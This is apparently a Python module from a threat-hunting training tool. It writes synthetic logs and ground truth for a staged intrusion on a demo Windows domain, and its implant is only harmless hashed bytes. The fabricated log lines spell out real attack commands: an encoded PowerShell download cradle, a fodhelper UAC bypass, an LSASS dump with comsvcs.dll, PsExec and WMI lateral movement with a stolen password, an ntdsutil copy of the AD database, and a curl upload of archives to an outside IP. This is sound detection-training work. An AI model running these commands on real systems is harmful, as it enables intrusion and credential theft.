"""The planted workstation intrusion: phishing document to exfiltration.

Maria Garcia (``mgarcia``) opens a macro document on ``WS-017``; Word starts
an encoded PowerShell download cradle, which drops and runs an implant that
beacons to its C2 every 60 s (±20 %) until the end of the data. The attacker
bypasses UAC, dumps LSASS with ``comsvcs.dll``, moves to the file server with
PsExec and to the domain controller with WMI using the stolen ``adm-dkim``
credentials, archives the Finance share with 7-Zip and uploads it with curl.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from huntbook.data.lake._demo_beacon import BEACON_INTERVAL, BEACON_JITTER, plant_beacon
from huntbook.data.lake._demo_catalog import OFFICE, POWERSHELL, SYS32, encode_powershell
from huntbook.data.lake._demo_emit import Emitter, Proc
from huntbook.data.lake._demo_env import NETBIOS
from huntbook.data.lake._demo_truth import (
    Alert,
    Hashes,
    Host,
    Indicator,
    Intrusion,
    LogonEvent,
    ProcessEvent,
    Stage,
    User,
)

SCENARIO = "intrusion"
VICTIM_HOST = "WS-017"
VICTIM_USER = "mgarcia"
STOLEN_ADMIN = "adm-dkim"
STOLEN_PASSWORD = "Autumn#2026"
C2_DOMAIN = "contoso-sync.net"
C2_IP = "203.0.113.66"
EXFIL_IP = "198.51.100.23"
CRADLE_URL = f"http://{C2_DOMAIN}/s/upd.ps1"
PAYLOAD_URL = f"http://{C2_DOMAIN}/s/odsync.bin"
DECODED_COMMAND = f"IEX (New-Object Net.WebClient).DownloadString('{CRADLE_URL}')"
ENCODED_COMMAND = encode_powershell(DECODED_COMMAND)
POWERSHELL_COMMAND = f"powershell.exe -nop -w hidden -enc {ENCODED_COMMAND}"
DOCUMENT = (
    r"C:\Users\mgarcia\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook"
    r"\7QW2ZK1M\Invoice_INV-20817.docm"
)
PAYLOAD_PATH = r"C:\Users\mgarcia\AppData\Roaming\odsync.exe"
TEMP = r"C:\Users\mgarcia\AppData\Local\Temp"
ARCHIVE = rf"{TEMP}\q4_fin.7z"
LSASS_PID = 724
_VOLUMES = (524_288_000, 524_288_000, 524_288_000, 389_120_512)


def payload_bytes() -> bytes:
    """Return the stand-in bytes of the implant (not code; only hashed)."""
    body = hashlib.shake_256(b"huntbook demo implant - harmless stand-in bytes").digest(241_662)
    return b"MZ" + body


def payload_hashes() -> Hashes:
    """Return the implant's genuine MD5, SHA-1 and SHA-256."""
    data = payload_bytes()
    return Hashes(
        hashlib.md5(data).hexdigest(), hashlib.sha1(data).hexdigest(), hashlib.sha256(data).hexdigest()
    )


@dataclass
class _Run:
    """Writes one stage's events and collects its ground-truth records."""

    em: Emitter
    processes: list[ProcessEvent] = field(default_factory=list)
    logons: list[LogonEvent] = field(default_factory=list)

    def stage(
        self,
        name: str,
        tactic: str,
        description: str,
        techniques: tuple[str, ...],
        *,
        start: datetime,
        end: datetime,
        hosts: tuple[str, ...],
        accounts: tuple[str, ...],
        tables: tuple[str, ...],
        indicators: tuple[str, ...] = (),
        alerts: tuple[str, ...] = (),
    ) -> Stage:
        """Return the stage record with the processes and logons written so far."""
        return Stage(
            name, tactic, description, techniques, start, end, hosts, accounts, tables,
            tuple(self.processes), tuple(self.logons), indicators, alerts,
        )  # fmt: skip

    def spawn(
        self,
        t: datetime,
        parent: Proc,
        image: str,
        cmd: str,
        pid: int,
        *,
        integrity: str = "medium",
        hashes: tuple[str, str, str, int] | None = None,
        who: User | str | None = "inherit",
        logon_id: int | None = None,
    ) -> Proc:
        """Start *image* from *parent* and record it."""
        proc, event = self.em.process(
            t, parent, image, cmd, pid, who=who, integrity=integrity, hashes=hashes, logon_id=logon_id
        )
        self.processes.append(event)
        return proc

    def shell(
        self,
        t: datetime,
        parent: Proc,
        command: str,
        image: str,
        tool_cmd: str,
        pid: int,
        *,
        integrity: str = "medium",
    ) -> Proc:
        """Run ``cmd.exe /c <command>`` and the tool it starts."""
        cmd = self.spawn(
            t,
            parent,
            rf"{SYS32}\cmd.exe",
            rf"C:\Windows\system32\cmd.exe /c {command}",
            pid,
            integrity=integrity,
        )
        return self.spawn(t + timedelta(milliseconds=180), cmd, image, tool_cmd, pid + 8, integrity=integrity)

    def network_logon(
        self,
        t: datetime,
        proc: Proc,
        who: User,
        target: Host,
        package: str,
        *,
        logon_at: datetime,
        duration: timedelta,
        logon_id: int,
        connect: tuple[datetime, int, int] | None = None,
    ) -> None:
        """Log *proc* on to *target* over the network with *who*'s credentials, and record it.

        Writes the 4648 at *t*, the connection ``(time, port, local port)`` if
        given, and the logon at *logon_at*.
        """
        self.em.explicit_credentials(t, proc, who, target)
        if connect:
            when, port, local_port = connect
            self.em.connection(when, proc, target.ip, port, local_port=local_port)
        logon = self.em.logon(
            logon_at, target, who, 3, proc.host, package, duration=duration, logon_id=logon_id
        )
        self.logons.append(logon)


def plant_intrusion(em: Emitter, day: int) -> tuple[Intrusion, list[Alert], list[Indicator]]:
    """Write the intrusion starting on *day* (a weekday index) and return its ground truth."""
    ctx, env = em.ctx, em.env
    host, user = env.host(VICTIM_HOST), env.user(VICTIM_USER)
    admin = env.user(STOLEN_ADMIN)
    fs, dc = env.host("FS01"), env.host("DC01")
    base = ctx.start + timedelta(days=day)

    def at(h: int, m: int, s: float, plus_days: int = 0) -> datetime:
        return base + timedelta(days=plus_days, hours=h, minutes=m, seconds=s)

    stages: list[Stage] = []
    alerts: list[Alert] = []
    hashes = payload_hashes()
    payload_facts = (hashes.md5, hashes.sha1, hashes.sha256, len(payload_bytes()))
    account = f"{NETBIOS}\\{user.name}"
    admin_account = f"{NETBIOS}\\{admin.name}"

    # 1. Initial access: the document and the encoded cradle.
    run = _Run(em)
    outlook = em.running(host, user, "outlook", day)
    word = run.spawn(
        at(9, 41, 7.312),
        outlook,
        rf"{OFFICE}\WINWORD.EXE",
        rf'"{OFFICE}\WINWORD.EXE" /n "{DOCUMENT}" /o ""',
        0x2F10,
    )
    ps = run.spawn(at(9, 41, 31.804), word, POWERSHELL, POWERSHELL_COMMAND, 0x3A8C)
    em.connection(
        at(9, 41, 32.415),
        ps,
        C2_IP,
        80,
        name=C2_DOMAIN,
        sent=412,
        received=2_874,
        url=CRADLE_URL,
        app="web-browsing",
        local_port=51122,
    )
    em.connection(
        at(9, 41, 35.106),
        ps,
        C2_IP,
        80,
        name=C2_DOMAIN,
        sent=398,
        received=payload_facts[3] + 312,
        url=PAYLOAD_URL,
        app="web-browsing",
        local_port=51124,
        duration=timedelta(seconds=3),
    )
    alerts.append(
        em.alert(
            at(9, 41, 45),
            "Suspicious PowerShell command line",
            scenario=SCENARIO,
            severity="Medium",
            provider="MDATP",
            compromised=host.name,
            tactics=("Execution", "DefenseEvasion"),
            techniques=("T1059.001", "T1027", "T1204.002"),
            description="Word started PowerShell with a hidden window and a base64-encoded command.",
            host=host,
            account=user,
            started=at(9, 41, 31.804),
            extra=[
                {"ProcessId": str(ps.pid), "CommandLine": POWERSHELL_COMMAND, "Type": "process"},
                {
                    "Name": DOCUMENT.rsplit("\\", 1)[-1],
                    "Directory": DOCUMENT.rsplit("\\", 1)[0],
                    "Type": "file",
                },
            ],
        )
    )
    stages.append(
        run.stage(
            "initial_access",
            "InitialAccess",
            "A macro document opened from Outlook starts PowerShell with an encoded download cradle.",
            ("T1566.001", "T1204.002", "T1059.001", "T1027", "T1105"),
            start=at(9, 41, 7.312),
            end=at(9, 41, 38.106),
            hosts=(host.name,),
            accounts=(account,),
            tables=(
                "SecurityEvent",
                "DeviceProcessEvents",
                "DeviceNetworkEvents",
                "CommonSecurityLog",
                "DnsEvents",
                "SecurityAlert",
            ),
            indicators=(C2_DOMAIN, C2_IP, CRADLE_URL, PAYLOAD_URL, DOCUMENT),
            alerts=("Suspicious PowerShell command line",),
        )
    )

    # 2. Execution and persistence: the implant and its Run key.
    run = _Run(em)
    implant = run.spawn(
        at(9, 41, 41.027), ps, PAYLOAD_PATH, f'"{PAYLOAD_PATH}"', 0x1F54, hashes=payload_facts
    )
    run_key = (
        rf'"{SYS32}\reg.exe" add HKCU\Software\Microsoft\Windows\CurrentVersion\Run '
        rf'/v OneDriveSync /t REG_SZ /d "{PAYLOAD_PATH}" /f'
    )
    run.spawn(at(9, 41, 44.215), ps, rf"{SYS32}\reg.exe", run_key, 0x2A30)
    stages.append(
        run.stage(
            "execution",
            "Persistence",
            "PowerShell drops the implant in the user's roaming profile, starts it and adds a Run key.",
            ("T1105", "T1547.001"),
            start=at(9, 41, 41.027),
            end=at(9, 41, 44.215),
            hosts=(host.name,),
            accounts=(account,),
            tables=("SecurityEvent", "DeviceProcessEvents"),
            indicators=(PAYLOAD_PATH, hashes.md5, hashes.sha1, hashes.sha256),
        )
    )

    # 3. Command and control: the beacon (vectorised).
    beacon = plant_beacon(em, implant, at(9, 42, 3.0), C2_IP, C2_DOMAIN)
    alerts.append(
        em.alert(
            at(10, 5, 12),
            "TI map IP entity to CommonSecurityLog",
            scenario=SCENARIO,
            severity="Medium",
            provider="ASI Scheduled Alerts",
            compromised="",
            tactics=("CommandAndControl",),
            techniques=("T1071.001",),
            description=f"Firewall logs show traffic to {C2_IP}, a known command-and-control address.",
            ips=(C2_IP, host.ip),
            started=beacon.start,
        )
    )
    stages.append(
        Stage(
            "command_and_control",
            "CommandAndControl",
            f"The implant beacons over HTTPS to {C2_DOMAIN} ({C2_IP}) every "
            f"{BEACON_INTERVAL:.0f} s ±{BEACON_JITTER:.0%} until the end of the data.",
            ("T1071.001", "T1573.002"),
            beacon.start,
            beacon.end,
            (host.name,),
            (account,),
            ("DeviceNetworkEvents", "CommonSecurityLog", "DnsEvents", "SecurityAlert"),
            indicators=(C2_DOMAIN, C2_IP),
            alerts=("TI map IP entity to CommonSecurityLog",),
        )
    )

    # 4. Discovery.
    run = _Run(em)
    recon = (
        ("whoami /all", rf"{SYS32}\whoami.exe", "whoami  /all"),
        ('net group "Domain Admins" /domain', rf"{SYS32}\net.exe", 'net  group "Domain Admins" /domain'),
        ("nltest /dclist:contoso.com", rf"{SYS32}\nltest.exe", "nltest  /dclist:contoso.com"),
        (r"net view \\FS01", rf"{SYS32}\net.exe", r"net  view \\FS01"),
    )
    for i, (command, image, tool) in enumerate(recon):
        run.shell(at(10, 16, 5.5 + 47 * i), implant, command, image, tool, 0x3100 + 0x40 * i)
    stages.append(
        run.stage(
            "discovery",
            "Discovery",
            "The implant enumerates the user, domain admins, DCs and shares.",
            ("T1033", "T1069.002", "T1018", "T1135"),
            start=at(10, 16, 5.5),
            end=at(10, 18, 26.7),
            hosts=(host.name,),
            accounts=(account,),
            tables=("SecurityEvent", "DeviceProcessEvents"),
        )
    )

    # 5. Privilege escalation (UAC bypass) and credential dumping.
    run = _Run(em)
    key = r"HKCU\Software\Classes\ms-settings\Shell\Open\command"
    for i, value in enumerate((f'/d "{PAYLOAD_PATH}" /f', "/v DelegateExecute /t REG_SZ /f")):
        uac = f"reg add {key} {value}"
        run.shell(at(10, 55, 2.1 + 2 * i), implant, uac, rf"{SYS32}\reg.exe", uac, 0x3300 + 0x20 * i)
    fod = run.spawn(at(10, 55, 9.4), implant, rf"{SYS32}\fodhelper.exe", "fodhelper.exe", 0x3348)
    elevated = run.spawn(
        at(10, 55, 10.2),
        fod,
        PAYLOAD_PATH,
        f'"{PAYLOAD_PATH}"',
        0x3390,
        integrity="high",
        hashes=payload_facts,
    )
    dump = rf"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump {LSASS_PID} C:\Windows\Temp\x.dmp full"
    run.shell(at(11, 2, 14.3), elevated, dump, rf"{SYS32}\rundll32.exe", dump, 0x3400, integrity="high")
    alerts.append(
        em.alert(
            at(11, 2, 20),
            "Sensitive credential memory read",
            scenario=SCENARIO,
            severity="High",
            provider="MDATP",
            compromised=host.name,
            tactics=("CredentialAccess",),
            techniques=("T1003.001",),
            description="rundll32.exe used comsvcs.dll MiniDump to read the memory of lsass.exe.",
            host=host,
            account=user,
            started=at(11, 2, 14.3),
            extra=[{"ProcessId": str(0x3408), "CommandLine": dump, "Type": "process"}],
        )
    )
    stages.append(
        run.stage(
            "credential_access",
            "CredentialAccess",
            "A fodhelper UAC bypass starts an elevated implant, which dumps LSASS with comsvcs.dll.",
            ("T1548.002", "T1003.001"),
            start=at(10, 55, 2.1),
            end=at(11, 2, 14.48),
            hosts=(host.name,),
            accounts=(account,),
            tables=("SecurityEvent", "DeviceProcessEvents", "SecurityAlert"),
            indicators=(r"C:\Windows\Temp\x.dmp",),
            alerts=("Sensitive credential memory read",),
        )
    )

    # 6. Lateral movement with adm-dkim: PsExec to FS01, WMI to DC01 (ntdsutil).
    run = _Run(em)
    psexec_cmd = (
        rf'{TEMP}\PsExec64.exe \\FS01 -accepteula -u {admin_account} -p "{STOLEN_PASSWORD}" '
        r'-s cmd.exe /c "hostname & whoami & net share"'
    )
    psexec = run.shell(
        at(11, 47, 2.2), elevated, psexec_cmd, rf"{TEMP}\PsExec64.exe", psexec_cmd, 0x3500, integrity="high"
    )
    run.network_logon(
        at(11, 47, 2.9),
        psexec,
        admin,
        fs,
        "NTLM",
        connect=(at(11, 47, 3.1), 445, 52210),
        logon_at=at(11, 47, 3.4),
        duration=timedelta(seconds=41),
        logon_id=0x5A1F3C2,
    )
    em.service_installed(at(11, 47, 4.0), fs, admin, "PSEXESVC", r"%SystemRoot%\PSEXESVC.exe")
    services = em.running(fs, None, "services", day)
    svc = run.spawn(
        at(11, 47, 4.6),
        services,
        r"C:\Windows\PSEXESVC.exe",
        r"C:\Windows\PSEXESVC.exe",
        0x1C44,
        who=None,
        integrity="system",
    )
    remote = run.spawn(
        at(11, 47, 5.3),
        svc,
        rf"{SYS32}\cmd.exe",
        r'cmd.exe /c "hostname & whoami & net share"',
        0x1D08,
        integrity="system",
    )
    for i, (image, cmd) in enumerate(
        (
            (rf"{SYS32}\HOSTNAME.EXE", "hostname"),
            (rf"{SYS32}\whoami.exe", "whoami"),
            (rf"{SYS32}\net.exe", "net  share"),
        )
    ):
        run.spawn(at(11, 47, 5.6 + 0.4 * i), remote, image, cmd, 0x1D40 + 0x40 * i, integrity="system")
    alerts.append(
        em.alert(
            at(11, 47, 30),
            "Remote code execution via PsExec",
            scenario=SCENARIO,
            severity="Medium",
            provider="MDATP",
            compromised=fs.name,
            tactics=("LateralMovement", "Execution"),
            techniques=("T1021.002", "T1569.002"),
            description=f"{admin_account} installed PSEXESVC on {fs.name} from {host.ip}; it ran cmd.exe.",
            host=fs,
            account=admin,
            ips=(host.ip,),
            started=at(11, 47, 3.4),
        )
    )
    ntds = r'ntdsutil "ac i ntds" ifm "create full C:\Windows\Temp\ntds_ifm" q q'
    wmic_cmd = (
        rf'wmic.exe /node:DC01 /user:{admin_account} /password:"{STOLEN_PASSWORD}" '
        rf'process call create "cmd.exe /c {ntds}"'
    )
    wmic = run.shell(
        at(12, 6, 40.5), elevated, wmic_cmd, rf"{SYS32}\wbem\WMIC.exe", wmic_cmd, 0x3600, integrity="high"
    )
    dc_logon_id = 0x6B20D91
    run.network_logon(
        at(12, 6, 41.0),
        wmic,
        admin,
        dc,
        "Kerberos",
        connect=(at(12, 6, 41.2), 135, 52377),
        logon_at=at(12, 6, 41.6),
        duration=timedelta(minutes=3, seconds=12),
        logon_id=dc_logon_id,
    )
    dcom = em.running(dc, None, "dcomlaunch", day)
    wmiprvse = Proc(
        dc,
        None,
        rf"{SYS32}\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        0x0E58,
        at(9, 2, 0),
        dcom,
    )
    remote = run.spawn(
        at(12, 6, 42.3),
        wmiprvse,
        rf"{SYS32}\cmd.exe",
        f"cmd.exe /c {ntds}",
        0x2210,
        who=admin,
        integrity="high",
        logon_id=dc_logon_id,
    )
    run.spawn(
        at(12, 6, 42.9),
        remote,
        rf"{SYS32}\ntdsutil.exe",
        ntds.replace("ntdsutil ", "ntdsutil  ", 1),
        0x2250,
        integrity="high",
    )
    alerts.append(
        em.alert(
            at(12, 7, 30),
            "Possible NTDS.dit extraction",
            scenario=SCENARIO,
            severity="High",
            provider="MDATP",
            compromised=dc.name,
            tactics=("CredentialAccess",),
            techniques=("T1003.003",),
            description=f"ntdsutil, started over WMI, made an IFM copy of the AD database on {dc.name}.",
            host=dc,
            account=admin,
            ips=(host.ip,),
            started=at(12, 6, 41.6),
        )
    )
    stages.append(
        run.stage(
            "lateral_movement",
            "LateralMovement",
            f"With the stolen {admin_account} credentials the attacker runs PsExec against {fs.name} "
            f"and WMI against {dc.name}, where ntdsutil copies the AD database.",
            ("T1078.002", "T1021.002", "T1569.002", "T1047", "T1003.003"),
            start=at(11, 47, 2.2),
            end=at(12, 6, 42.9),
            hosts=(host.name, fs.name, dc.name),
            accounts=(account, admin_account),
            tables=(
                "SecurityEvent",
                "DeviceProcessEvents",
                "DeviceLogonEvents",
                "DeviceNetworkEvents",
                "SecurityAlert",
            ),
            indicators=(),
            alerts=("Remote code execution via PsExec", "Possible NTDS.dit extraction"),
        )
    )

    # 7. Collection: map the Finance share with adm-dkim and archive it (next day).
    run = _Run(em)
    net_use = rf'net use \\FS01\Finance /user:{admin_account} "{STOLEN_PASSWORD}"'
    use = run.shell(
        at(10, 21, 33.7, 1),
        implant,
        net_use,
        rf"{SYS32}\net.exe",
        net_use.replace("net ", "net  ", 1),
        0x2C00,
    )
    run.network_logon(
        at(10, 21, 34.0, 1),
        use,
        admin,
        fs,
        "NTLM",
        logon_at=at(10, 21, 34.3, 1),
        duration=timedelta(minutes=31),
        logon_id=0x7C31E05,
    )
    zip_cmd = (
        rf'"C:\Program Files\7-Zip\7z.exe" a -t7z -mx5 -v500m -p"Q4-Fin!x" {ARCHIVE} '
        r"\\FS01\Finance\*"
    )
    run.shell(at(10, 24, 10.1, 1), implant, zip_cmd, r"C:\Program Files\7-Zip\7z.exe", zip_cmd, 0x2C80)
    stages.append(
        run.stage(
            "collection",
            "Collection",
            "The attacker maps \\\\FS01\\Finance with the admin's credentials and archives it into "
            "password-protected 500 MB 7-Zip volumes in the user's temp folder.",
            ("T1039", "T1560.001", "T1074.001"),
            start=at(10, 21, 33.7, 1),
            end=at(10, 52, 0.0, 1),
            hosts=(host.name, fs.name),
            accounts=(account, admin_account),
            tables=("SecurityEvent", "DeviceProcessEvents", "DeviceLogonEvents"),
            indicators=(ARCHIVE,),
        )
    )

    # 8. Exfiltration: curl uploads the volumes over HTTPS to a bare IP.
    run = _Run(em)
    sent_total = 0
    for i, size in enumerate(_VOLUMES, start=1):
        volume = f"{ARCHIVE}.{i:03d}"
        curl_cmd = rf"curl.exe -k -s -T {volume} https://{EXFIL_IP}/upload/"
        t = at(13, 5 + 9 * (i - 1), 12.4, 1)
        curl = run.shell(t, implant, curl_cmd, rf"{SYS32}\curl.exe", curl_cmd, 0x4000 + 0x100 * i)
        sent = size + 1_893 + 37 * i
        sent_total += sent
        em.connection(
            t + timedelta(seconds=1),
            curl,
            EXFIL_IP,
            443,
            sent=sent,
            received=1_204 + i,
            local_port=53000 + i,
            duration=timedelta(minutes=7, seconds=31),
        )
    stages.append(
        run.stage(
            "exfiltration",
            "Exfiltration",
            f"curl.exe uploads {len(_VOLUMES)} archive volumes ({sent_total} bytes) to https://{EXFIL_IP}/.",
            ("T1048.002",),
            start=at(13, 5, 12.4, 1),
            end=at(13, 40, 44.4, 1),
            hosts=(host.name,),
            accounts=(account,),
            tables=("SecurityEvent", "DeviceProcessEvents", "DeviceNetworkEvents", "CommonSecurityLog"),
            indicators=(EXFIL_IP,),
        )
    )

    indicators = [
        Indicator("ip", C2_IP, "c2_ip", True, SCENARIO),
        Indicator("domain", C2_DOMAIN, "c2_domain", False, SCENARIO),
        Indicator("url", CRADLE_URL, "cradle_url", False, SCENARIO),
        Indicator("url", PAYLOAD_URL, "payload_url", False, SCENARIO),
        Indicator("ip", EXFIL_IP, "exfil_ip", False, SCENARIO),
        Indicator("md5", hashes.md5, "payload_md5", False, SCENARIO),
        Indicator("sha1", hashes.sha1, "payload_sha1", False, SCENARIO),
        Indicator("sha256", hashes.sha256, "payload_sha256", False, SCENARIO),
        Indicator("file_path", PAYLOAD_PATH, "payload_path", False, SCENARIO),
        Indicator("file_path", DOCUMENT, "document_path", False, SCENARIO),
    ]
    truth = Intrusion(
        host=host.name,
        host_ip=host.ip,
        account=user.name,
        account_upn=user.upn,
        stolen_account=admin.name,
        document=DOCUMENT,
        powershell_command_line=POWERSHELL_COMMAND,
        encoded_command=ENCODED_COMMAND,
        decoded_command=DECODED_COMMAND,
        cradle_url=CRADLE_URL,
        payload_url=PAYLOAD_URL,
        payload_path=PAYLOAD_PATH,
        payload_hashes=hashes,
        payload_size=payload_facts[3],
        c2_domain=C2_DOMAIN,
        c2_ip=C2_IP,
        exfil_ip=EXFIL_IP,
        exfil_bytes=sent_total,
        archive_path=ARCHIVE,
        lsass_pid=LSASS_PID,
        lateral_targets=(fs.name, dc.name),
        beacon=beacon,
        stages=tuple(stages),
    )
    return truth, alerts, indicators
